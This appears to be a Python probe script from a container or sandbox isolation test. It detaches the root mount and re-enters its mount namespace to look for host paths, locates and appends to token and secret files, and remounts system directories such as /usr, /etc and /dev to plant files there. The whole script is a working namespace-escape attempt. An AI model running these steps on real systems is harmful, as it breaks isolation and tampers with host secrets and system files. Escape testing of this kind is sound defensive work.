"""Takes the machine's root away and looks at what is below; prints what of the host can be seen there."""

import ctypes
import glob
import os
import sys

TOKEN, SECRET, HOST = sys.argv[1:]
if os.readlink("/proc/self/ns/mnt") == HOST:
    sys.exit("this is the host itself")
LIBC = ctypes.CDLL(None, use_errno=True)
MNT_DETACH = 2
CLONE_NEWNS = 0x00020000

namespace = os.open("/proc/self/ns/mnt", os.O_RDONLY)
for _ in range(5):
    if LIBC.umount2(b"/", MNT_DETACH) != 0:
        break
    # Joining a mount namespace puts its topmost root under the caller's feet.
    if LIBC.setns(namespace, CLONE_NEWNS) != 0:
        print("cannot join again:", os.strerror(ctypes.get_errno()))
        break
print("below:", *sorted(os.listdir("/")))
if os.path.exists("/root/detach.py"):
    print("this is still the machine")
    sys.exit()
for top in ["", "/old", "/..", *glob.glob("/proc/*/root"), *glob.glob("/machine*")]:
    for path in [TOKEN, SECRET]:
        if not os.path.exists(top + path):
            continue
        if path == SECRET:
            print("sees", top + path)
        # If this is the machine's copy, the host's file stays as it is, which the test looks at.
        try:
            open(top + path, "a").write("x")
        except OSError:
            pass
for directory in ["/usr", "/bin", "/lib", "/sys", "/etc", "/dev"]:
    for remount in [None, 0x1000 | 0x20, 0x20]:
        if remount is not None:
            LIBC.mount(None, directory.encode(), None, remount, None)
        try:
            path = f"{directory}/tandem-attack"
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
            print("makes", path)
        except OSError:
            pass
